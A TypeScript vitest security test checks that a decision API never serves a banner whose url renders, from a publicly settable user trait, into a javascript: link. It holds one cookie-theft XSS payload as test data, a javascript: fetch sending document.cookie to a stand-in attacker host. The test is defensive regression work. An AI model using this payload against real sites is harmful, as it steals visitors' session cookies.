/**
 * Link fields over HTTP (docs/catalog.md, *Escaping by field*): a trait
 * that anyone holding the public write key can set for any userId (events
 * need no user token) never reaches a customer's page as a script link. A
 * banner whose `url` renders from such a trait to `javascript:` is not
 * served (the next action is); rendered to an https link, it is.
 */
import { assert, describe, expect, it } from 'vitest';
import { useLocalStack } from '../support/stack.ts';
import { call, decidePublic, identify, sendEvents, uniqueId, waitForProfile, type Decision, type StackAccess } from './fixtures/kairos.ts';

let api: StackAccess;
useLocalStack((_started, access) => {
  api = access;
});

const CATALOG = {
  learning: { enabled: false, exploration: 0 },
  actions: [
    { id: 'continue-banner', name: 'continue', value: 10, content: { web: { title: 'Sigue donde lo dejaste', url: '{{ lastVisited | default: "/" }}' } } },
    { id: 'home-banner', name: 'home', content: { web: { title: 'Descubre la tienda', url: 'https://shop.example.com/' } } },
  ],
};

/** The victim's own page asks (public key, the victim's user token) until decide serves this catalog. */
async function bannerFor(userId: string, ready: (d: Decision) => boolean): Promise<Decision> {
  const deadline = Date.now() + 40_000;
  for (;;) {
    const answer = await decidePublic(api, { userId, channel: 'web', limit: 1 });
    assert.equal(answer.status, 200, answer.text.slice(0, 300));
    if (ready(answer.json) || Date.now() > deadline) return answer.json;
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
}

describe('link fields', () => {
  it('a trait set by anyone with the public key does not become a javascript: link on the customer\'s page', async () => {
    const put = await call(api, 'PUT', '/v1/admin/catalog', { auth: 'admin', body: CATALOG });
    assert.equal(put.status, 200, put.text.slice(0, 500));
    const victim = uniqueId('victim');

    // The attacker: the public key only, no user token, naming the victim's userId.
    const attack = 'javascript:fetch("https://evil.example/?c="+document.cookie)';
    expect((await sendEvents(api, [identify({ userId: victim }, { lastVisited: attack })])).accepted).toBe(1);
    await waitForProfile(api, victim, (p) => (p.traits as { lastVisited?: unknown }).lastVisited === attack);
    const attacked = await bannerFor(victim, (d) => ['continue-banner', 'home-banner'].includes(d.actions[0]?.actionId ?? ''));
    expect(attacked.actions.map((a) => ({ actionId: a.actionId, url: a.content.url }))).toEqual([{ actionId: 'home-banner', url: 'https://shop.example.com/' }]);
    expect(JSON.stringify(attacked)).not.toMatch(/javascript:/i);

    // The same banner with an https link is served.
    const link = 'https://shop.example.com/p/42';
    expect((await sendEvents(api, [identify({ userId: victim }, { lastVisited: link })])).accepted).toBe(1);
    await waitForProfile(api, victim, (p) => (p.traits as { lastVisited?: unknown }).lastVisited === link);
    const served = await bannerFor(victim, (d) => d.actions[0]?.actionId === 'continue-banner');
    expect(served.actions.map((a) => ({ actionId: a.actionId, url: a.content.url }))).toEqual([{ actionId: 'continue-banner', url: link }]);
  });
});
